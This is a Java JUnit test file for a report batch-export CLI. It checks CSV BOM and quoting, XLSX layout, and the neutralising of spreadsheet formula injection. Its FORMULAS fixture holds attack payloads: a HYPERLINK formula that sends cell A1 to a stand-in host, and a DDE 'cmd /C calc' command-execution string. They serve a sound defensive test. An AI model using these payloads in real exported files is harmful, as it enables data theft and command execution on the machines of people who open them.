package org.jindu.cli;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.IOException;
import java.io.InputStream;
import java.io.Reader;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class BatchExportTest {
    private static final List<String> TABLES =
            List.of("documents", "sections", "records", "record_departments", "metrics", "warnings");

    /** A small report whose cells hold what CSV must quote: commas, double quotes and line breaks. */
    private static final String AWKWARD = String.join("\n",
            "市教育局1-9月份分解落实2021年政府工作目标进展情况",
            "一、重点工作",
            "序号\t来源\t工作内容\t工作部门及负责人\t工作进展情况",
            "1\t（十政办发〔2021〕1号）第12项\tplan, build and \"open\" a lab\t职成教科、基教科"
                    + "\t<p>first paragraph, with a comma</p><p>second paragraph</p>",
            "2\t第13项\t招聘教师\t人事科\t已完成",
            "");

    @TempDir
    Path tmp;

    Path in;
    Path db;

    @BeforeEach
    void folder() throws IOException {
        in = tmp.resolve("in");
        BatchFixtures.seedCopies(in, 2);
        Files.writeString(in.resolve("awkward.txt"), AWKWARD, StandardCharsets.UTF_8);
        Files.createFile(in.resolve("empty.txt"));
        db = tmp.resolve("jindu.sqlite");
    }

    @Test
    void csvIsUtf8WithABomAndQuotesCommasQuotesAndLineBreaks() throws IOException {
        Path out = tmp.resolve("csv");
        Run run = Run.jindu("batch", "--db", db.toString(), "--format", "csv", "-o", out.toString(), in.toString());
        assertEquals(3, run.code(), run.err());

        for (String table : TABLES) {
            byte[] bytes = Files.readAllBytes(out.resolve(table + ".csv"));
            assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(bytes, 3), table);
        }
        List<List<String>> records = readCsv(out.resolve("records.csv"));
        List<String> header = records.get(0);
        List<String> awkward = records.stream()
                .filter(r -> r.get(header.indexOf("content")).startsWith("plan,"))
                .findFirst().orElseThrow();
        assertEquals("plan, build and \"open\" a lab", awkward.get(header.indexOf("content")));
        assertEquals("first paragraph, with a comma\nsecond paragraph", awkward.get(header.indexOf("progress")));
        assertEquals("[\"职成教科\",\"基教科\"]", awkward.get(header.indexOf("departments")));
        String raw = Files.readString(out.resolve("records.csv"), StandardCharsets.UTF_8);
        assertTrue(raw.contains("\"plan, build and \"\"open\"\" a lab\""), "RFC 4180 quoting");
        assertTrue(raw.contains("\"first paragraph, with a comma\nsecond paragraph\""), "line break inside quotes");
        // 2 seed copies of 8 records and the 2 awkward ones, below a header
        assertEquals(1 + 2 * 8 + 2, records.size());

        List<List<String>> documents = readCsv(out.resolve("documents.csv"));
        assertEquals(1 + 4, documents.size());
        List<String> docHeader = documents.get(0);
        assertTrue(documents.stream().anyMatch(d -> d.get(docHeader.indexOf("status")).equals("failed")
                && d.get(docHeader.indexOf("error_code")).equals("EMPTY")), documents.toString());
        List<List<String>> departments = readCsv(out.resolve("record_departments.csv"));
        assertTrue(departments.stream().anyMatch(d -> d.contains("基教科")), departments.toString());
        // the seed's 22 figures, twice, below a header
        List<List<String>> metrics = readCsv(out.resolve("metrics.csv"));
        assertEquals(1 + 2 * 22, metrics.size());
        List<String> metricHeader = metrics.get(0);
        assertTrue(metrics.stream().anyMatch(m -> "125950000".equals(m.get(metricHeader.indexOf("base_value")))
                && "funding".equals(m.get(metricHeader.indexOf("category")))), metrics.toString());
        assertTrue(metricHeader.containsAll(List.of("change", "change_from", "whole")), metricHeader.toString());
        // the seed's 占义务教育学校总数的 68.1%: a share, with its whole
        assertTrue(metrics.stream().anyMatch(m -> "68.1".equals(m.get(metricHeader.indexOf("value")))
                && "义务教育学校总数".equals(m.get(metricHeader.indexOf("whole")))), metrics.toString());
    }

    @Test
    void xlsxHoldsTheSameRowsAsCsvWithAFrozenHeader() throws IOException {
        Path csv = tmp.resolve("csv");
        Path xlsx = tmp.resolve("jindu.xlsx");
        assertEquals(3, Run.jindu("batch", "--db", db.toString(), "--format", "csv", "-o", csv.toString(),
                in.toString()).code());
        Run run = Run.jindu("batch", "--db", db.toString(), "--format", "xlsx", "-o", xlsx.toString(), in.toString());
        assertEquals(0, run.code(), "nothing new to read: " + run.err());
        assertEquals(1, run.errLines().length, "only the summary, no logging from POI: " + run.err());

        DataFormatter formatter = new DataFormatter();
        try (InputStream stream = Files.newInputStream(xlsx); Workbook workbook = new XSSFWorkbook(stream)) {
            assertEquals(TABLES.size(), workbook.getNumberOfSheets());
            for (String table : TABLES) {
                Sheet sheet = workbook.getSheet(table);
                List<List<String>> expected = readCsv(csv.resolve(table + ".csv"));
                List<List<String>> actual = new ArrayList<>();
                int columns = expected.get(0).size();
                for (Row row : sheet) {
                    List<String> values = new ArrayList<>();
                    for (int i = 0; i < columns; i++) {
                        Cell cell = row.getCell(i);
                        values.add(cell == null ? "" : formatter.formatCellValue(cell));
                    }
                    actual.add(values);
                }
                assertEquals(expected, actual, table);
                assertTrue(sheet.getPaneInformation().isFreezePane(), table);
                assertEquals(1, sheet.getPaneInformation().getHorizontalSplitTopRow(), table);
                assertTrue(workbook.getFontAt(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).getBold(),
                        "bold header");
            }
            Sheet records = workbook.getSheet("records");
            int content = header(records).indexOf("content");
            assertTrue(records.getColumnWidth(content) >= 40 * 256, "a wide text column is wide");
            assertTrue(records.getColumnWidth(content) <= 61 * 256, "but not wider than 60 characters");
        }
    }

    private static List<String> header(Sheet sheet) {
        List<String> names = new ArrayList<>();
        sheet.getRow(0).forEach(c -> names.add(c.getStringCellValue()));
        return names;
    }

    /** Reads a CSV file with Jackson's CSV module, the BOM taken off, as rows of strings. */
    /** Cells that a spreadsheet would run as formulas, in the content and progress columns. */
    private static final String FORMULAS = String.join("\n",
            "市教育局1-9月份分解落实2021年政府工作目标进展情况",
            "一、重点工作",
            "序号\t来源\t工作内容\t工作部门及负责人\t工作进展情况",
            "1\t第1项\t=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")\t基教科\t+1完成",
            "2\t第2项\t@SUM(1+1)*cmd|' /C calc'!A0\t人事科\t-3项未完成",
            "");

    @Test
    void csvCellsThatASpreadsheetWouldRunAreNeutralisedWithAQuote() throws IOException {
        Path folder = tmp.resolve("formulas");
        Files.createDirectories(folder);
        Files.writeString(folder.resolve("=1+2.txt"), FORMULAS, StandardCharsets.UTF_8);
        Path out = tmp.resolve("csv-formulas");
        Run run = Run.jindu("batch", "--db", tmp.resolve("f.sqlite").toString(), "--format", "csv",
                "-o", out.toString(), folder.toString());
        assertEquals(0, run.code(), run.err());

        List<List<String>> records = readCsv(out.resolve("records.csv"));
        List<String> header = records.get(0);
        assertEquals(List.of("'=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")", "'@SUM(1+1)*cmd|' /C calc'!A0"),
                records.subList(1, 3).stream().map(r -> r.get(header.indexOf("content"))).toList());
        assertEquals(List.of("'+1完成", "'-3项未完成"),
                records.subList(1, 3).stream().map(r -> r.get(header.indexOf("progress"))).toList());
        List<List<String>> documents = readCsv(out.resolve("documents.csv"));
        assertEquals("'=1+2.txt", documents.get(1).get(documents.get(0).indexOf("file")));
        // a number is a number, not text to neutralise; no temporary file is left behind
        assertEquals("2", documents.get(1).get(documents.get(0).indexOf("record_count")));
        try (var files = Files.list(out)) {
            assertEquals(TABLES.size(), files.count());
        }
    }

    private static List<List<String>> readCsv(Path file) throws IOException {
        String text = Files.readString(file, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF"));
        CsvMapper mapper = CsvMapper.builder().enable(CsvParser.Feature.WRAP_AS_ARRAY).build();
        List<List<String>> rows = new ArrayList<>();
        try (Reader reader = new StringReader(text.substring(1));
             MappingIterator<List<String>> it = mapper.readerForListOf(String.class).readValues(reader)) {
            while (it.hasNext()) {
                rows.add(it.next());
            }
        }
        return rows;
    }
}
